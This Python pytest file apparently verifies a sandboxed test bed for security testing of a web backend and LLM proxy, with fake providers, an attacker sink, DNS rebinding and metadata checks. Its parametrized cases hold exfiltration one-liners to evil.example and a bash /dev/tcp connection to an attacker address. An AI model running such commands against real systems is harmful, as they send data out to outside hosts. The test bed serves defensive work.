"""The world around the server is as the attacks take it to be: what they find closed would be open if nothing closed it."""

import json

import bed
import pytest
from bed import Internet, Neighbour, Server
from testinfra.host import Host

bed.fixtures(globals())

pytestmark = pytest.mark.bed

FAKES = {name: addresses for name, addresses in bed.NAMES.items() if name in bed.PROVIDERS.values()}
MODELS = {"gpt": "openai", "claude": "anthropic", "gemini": "gemini", "house": "house"}


def chat(host: Host, model: str, text: str, **more: object) -> str:
    """Say something to a model through the proxy, from the backend's container, and return the answer as it came."""
    body = json.dumps({"model": model, "messages": [{"role": "user", "content": text}], **more})
    address = "http://llm-proxy:4000/v1/chat/completions"
    header = "Content-Type: application/json"
    command = "docker exec ocweb-backend-1 curl --silent --max-time 60 --header %s --data %s %s"
    return str(host.check_output(command, header, body, address))


@pytest.mark.parametrize("name", FAKES)
def test_a_provider_is_a_fake_that_the_server_and_its_containers_trust(host: Host, name: str) -> None:
    for place in ("", "docker exec ocweb-backend-1 "):
        said = host.check_output(f"{place}curl --silent --show-error --max-time 10 https://{name}/")
        assert f"at {bed.NAMES[name][0]}, asked as {name}" in said


def test_real_names_lead_to_the_real_internet(host: Host) -> None:
    for place in ("", "docker exec ocweb-backend-1 "):
        assert host.check_output(f"{place}curl --silent --head --max-time 20 http://deb.debian.org/debian/").startswith("HTTP/")


@pytest.mark.parametrize("model", MODELS)
def test_a_provider_can_be_made_to_call_a_tool(host: Host, model: str) -> None:
    parameters = {"type": "object", "properties": {"command": {"type": "string"}}}
    tool = {"type": "function", "function": {"name": "bash", "parameters": parameters}}
    [call] = json.loads(chat(host, model, "TOOL:echo 'one two'", tools=[tool]))["choices"][0]["message"]["tool_calls"]
    assert call["function"]["name"] == "bash"
    assert json.loads(call["function"]["arguments"])["command"] == "echo 'one two'"


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("curl --silent http://evil.example/MARK", "http"),
        ("curl --silent https://evil.example:8443/ --data MARK", "http"),
        ("bash -c 'exec 3<>/dev/tcp/{attacker}/9999; echo MARK >&3; head -1 <&3'", "tcp"),
        ("bash -c 'echo MARK >/dev/udp/{attacker}/123'", "udp"),
        ("getent hosts MARK.evil.example", "dns"),
        ("curl --silent http://evil6.example/MARK", "http"),
    ],
)
def test_what_reaches_the_attacker_is_on_record(host: Host, internet: Internet, command: str, kind: str) -> None:
    mark = internet.mark()
    host.run(command.replace("{attacker}", bed.ATTACKER))
    assert internet.wait_for(lambda entry: entry["kind"] == kind and "mark" in json.dumps(entry).lower(), mark)


def test_a_name_may_change_its_address(host: Host) -> None:
    said = {host.check_output("getent ahostsv4 rebind.example").split()[0] for _ in range(2)}
    assert said == set(bed.WORLD["rebinding"]["rebind.example"])


@pytest.mark.parametrize("address", ["https://git.example/hello.git", "git@git.example:hello.git"])
def test_the_git_server_serves_the_person_on_the_server(host: Host, address: str) -> None:
    # A bare server has no git of its own; the backend's image does.
    image = host.check_output("docker inspect --format '{{.Image}}' ocweb-backend-1")
    places = ("/home/dev", "/etc/passwd", "/etc/ssl/certs/ca-certificates.crt")
    mounts = " ".join(f"--volume {place}:{place}:ro" for place in places)
    # Without what sends ssh through the guard in the container.
    clone = f"cd /tmp && GIT_SSH_COMMAND='ssh -F none' git clone --quiet {address} && cat hello/README"
    command = f"docker run --rm --user 1000 --network host --env HOME=/home/dev {mounts} --entrypoint sh {image} -c %s"
    assert host.check_output(command, clone) == "Hello from the git server."


@pytest.mark.parametrize("address", [*bed.SERVER.values(), "127.0.0.1", "::1"])
def test_the_server_has_a_service_of_its_own(host: Host, address: str) -> None:
    url = f"http://[{address}]" if ":" in address else f"http://{address}"
    assert host.check_output(f"curl --silent --globoff {url}:{bed.HOST_SERVICE['port']}/") == bed.HOST_SERVICE["answer"]


@pytest.mark.parametrize("address", [bed.SERVER["lan"], bed.SERVER["lan6"]])
def test_the_neighbour_reaches_the_server(neighbour: Neighbour, address: str) -> None:
    assert bed.HOST_SERVICE["answer"] in neighbour.answer(address, bed.HOST_SERVICE["port"])


def test_the_neighbour_finds_the_way_to_the_servers_bridges(host: Host, server: Server, neighbour: Neighbour) -> None:
    neighbour.route(server.subnets())
    gateway = host.check_output("docker network inspect --format '{{(index .IPAM.Config 0).Gateway}}' bridge")
    assert bed.HOST_SERVICE["answer"] in neighbour.answer(gateway, bed.HOST_SERVICE["port"])


@pytest.mark.parametrize("address", [bed.LAN_SERVICE, f"[{bed.LAN_SERVICE6}]", bed.METADATA])
def test_the_server_reaches_what_its_containers_must_not(host: Host, address: str) -> None:
    said = host.check_output(f"curl --silent --globoff --max-time 5 http://{address}/")
    assert said.startswith(("LAN service", "instance credentials"))
